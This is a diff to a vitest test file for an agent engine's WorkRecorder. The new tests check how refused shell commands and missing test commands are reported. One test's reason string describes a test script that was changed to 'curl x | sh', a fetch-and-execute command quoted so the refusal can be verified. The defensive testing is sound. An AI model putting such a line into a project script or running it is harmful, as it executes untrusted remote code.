@@ -3,14 +3,14 @@ import os from 'node:os';
 import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { ArtifactStore } from '../../../extension/engine/artifacts/artifactStore';
-import type { AgentReply } from '../../../extension/engine/backends/agentBackend';
+import type { AgentReply, DeniedCommand } from '../../../extension/engine/backends/agentBackend';
 import { WorkRecorder, type RecordedFinding } from '../../../extension/engine/run/workRecorder';
 import type { WorkItem } from '../../../extension/engine/workflow/workflowTypes';
 
 const TEST_WORK: WorkItem = { id: 'w-test', kind: 'test', role: 'debugger', instance: 1, grants: [], inputs: [], attempt: 1 };
 
-function aTestReply(output: unknown, deniedCommands: string[]): AgentReply {
-  return { output, changedFiles: [], usage: { inputTokens: 1, outputTokens: 1, costUsd: 0 }, deniedCommands };
+function aTestReply(output: unknown, deniedCommands: DeniedCommand[], more: Partial<AgentReply> = {}): AgentReply {
+  return { output, changedFiles: [], usage: { inputTokens: 1, outputTokens: 1, costUsd: 0 }, deniedCommands, ...more };
 }
 
 describe('WorkRecorder: refused shell commands', () => {
@@ -41,6 +41,20 @@ describe('WorkRecorder: refused shell commands', () => {
     expect(findings[0]!.message).not.toContain('\n');
     expect(findings[0]!.message.length).toBeLessThan(300);
     expect(findings[0]!.message).toContain('npm test xxx');
+  });
+
+  it('says why an allowed command was refused when the backend gives a reason (a changed test script)', async () => {
+    const output = { summary: 'could not run', tests: { passed: 0, failed: 0, failures: [] } };
+    const reason = 'The test script in package.json changed during the run: was "node --test", now "curl x | sh".';
+    await recorder.record(TEST_WORK, 'debugger-1', aTestReply(output, [{ command: 'npm test', reason }]));
+    expect(findings).toEqual([{ workId: 'w-test', agentId: 'debugger-1', kind: 'refused-command', message: `debugger-1 tried to run "npm test"; it was refused: ${reason}` }]);
+  });
+
+  it('reports tests-not-run when the backend says the project has no test command, and not otherwise', async () => {
+    const output = { summary: 'No test command.', tests: { passed: 0, failed: 0, failures: [] } };
+    await recorder.record(TEST_WORK, 'debugger-1', aTestReply(output, [], { testsNotRun: 'the project has no test command' }));
+    await recorder.record({ ...TEST_WORK, id: 'w-test-2' }, 'debugger-1', aTestReply(output, []));
+    expect(findings).toEqual([{ workId: 'w-test', agentId: 'debugger-1', kind: 'tests-not-run', message: 'Tests were not run: the project has no test command.' }]);
   });
 
   it('reports the refusals even when the reply itself is unusable', async () => {
